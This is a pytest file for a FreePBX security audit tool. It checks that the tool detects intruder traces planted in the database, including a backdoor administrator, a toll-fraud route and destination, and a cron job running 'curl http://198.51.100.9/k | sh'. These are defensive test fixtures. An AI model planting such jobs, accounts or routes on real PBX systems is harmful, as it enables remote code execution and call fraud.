"""The audit reads a real database of FreePBX: jobs, administrators, routes, modules; what is new is named."""

from __future__ import annotations

import json
from pathlib import Path

import pytest
from lab.freepbx.database import PASSWORD, FreePbxDatabase
from tests.pbx.asterisk.audit.test_configurations import FOLDER

from veilleur.pbx.asterisk.audit.snapshot.taking import configuration, stamps
from veilleur.pbx.asterisk.audit.survey import survey
from veilleur.pbx.audit_port import AuditRequest
from veilleur.words.audit import Observation, Outcome, Severity
from veilleur.words.audit.configuration import changes

MACHINE = FOLDER / "freepbx-17"
PLAIN = {
    "ampusers": [{"username": "admin", "password_sha1": "a" * 40, "sections": "*"}],
    "cron_jobs": [{"modulename": "framework", "jobname": "updates", "class": "FreePBX\\Job", "enabled": 1}],
    "modules": [{"modulename": "core", "version": "17.0.18.4", "signature": json.dumps({"status": 129})}],
    "trunks": [{"trunkid": 1, "tech": "pjsip", "channelid": "carrier", "name": "carrier"}],
    "outbound_routes": [{"route_id": 1, "name": "out"}],
    "outbound_route_patterns": [{"route_id": 1, "match_pattern_pass": "0XXXXXXXXX"}],
    "incoming": [{"extension": "0199001200", "destination": "from-did-direct,201,1"}],
    "miscdests": [{"description": "alarm", "destdial": "0199001201"}],
}
IMPLANTED = {
    "ampusers": [{"username": "sugarmaint", "password_sha1": "b" * 40, "sections": "*"}],
    "cron_jobs": [{"modulename": "endpoint", "jobname": "x", "command": "curl http://198.51.100.9/k | sh"}],
    "modules": [{"modulename": "endpoint", "version": "17.0.2", "signature": json.dumps({"status": 2})}],
    "trunks": [{"trunkid": 2, "tech": "pjsip", "channelid": "evil", "name": "evil"}],
    "outbound_routes": [{"route_id": 2, "name": "first"}],
    "outbound_route_patterns": [{"route_id": 2, "match_pattern_pass": "."}],
    "incoming": [{"extension": "", "destination": "ext-trunk,1,1"}],
    "miscdests": [{"description": "far", "destdial": "0037121000000"}],
    "freepbx_settings": [{"keyword": "AUTHTYPE", "value": "none"}],
}
JUDGED = (19, 66, 105, 106, 107, 109, 110)


@pytest.fixture
def login(database: FreePbxDatabase, tmp_path: Path) -> Path:
    database.add("asterisk", PLAIN)
    path = tmp_path / "freepbx.conf"
    path.write_text(database.login_file)
    return path


def weak(login: Path | None) -> list[Observation]:
    found = survey(AuditRequest(MACHINE, outside_line="0", database=login)).observations
    return [one for one in found if one.outcome is Outcome.WEAK and one.check in JUDGED]


def more_than_files(login: Path) -> dict[int, Observation]:
    files = {one.key for one in weak(None)}
    return {one.check: one for one in weak(login) if one.key not in files}


def test_a_plain_database_adds_no_weakness(login: Path) -> None:
    assert more_than_files(login) == {}


def test_each_trace_of_an_intruder_in_the_tables_is_found(login: Path, database: FreePbxDatabase) -> None:
    database.add("asterisk", IMPLANTED)
    found = more_than_files(login)
    assert set(found) == {19, 105, 106, 107, 109, 110}
    assert found[106].severity is Severity.CRITICAL
    shown = " ".join(str(one) for one in found.values())
    assert "0037121000000" not in shown
    assert PASSWORD not in shown


def test_a_database_that_cannot_be_read_is_a_finding_and_no_end(login: Path) -> None:
    login.write_text(login.read_text().replace(PASSWORD.replace("'", "\\'"), "another"))
    assert set(more_than_files(login)) == {66}


def test_what_is_new_in_the_tables_is_named(login: Path, database: FreePbxDatabase) -> None:
    before, stamp = configuration(MACHINE, login), stamps(MACHINE, login)
    assert stamps(MACHINE, login) == stamp
    database.add("asterisk", IMPLANTED)
    assert stamps(MACHINE, login) != stamp
    found = {one.kind.value: one.names for one in changes(before, configuration(MACHINE, login))}
    assert found["administrator"] == ("FreePBX: sugarmaint",)
    assert found["trunk"] == ("FreePBX: pjsip/evil",)
    assert found["route"] == ("FreePBX: first (|.)",)
    assert found["destination"] == ("* -> ext-trunk,1,1", "misc far -> misc")
    assert found["module"] == ("endpoint 17.0.2 (tampered)",)
    assert found["job"] == ("cron_jobs endpoint/x: curl http://198.51.100.9/k | sh",)


def test_a_database_that_was_away_for_a_moment_makes_no_old_name_new(login: Path) -> None:
    whole, without = configuration(MACHINE, login), configuration(MACHINE)
    assert changes(without, whole) == []
    assert changes(whole, without) == []
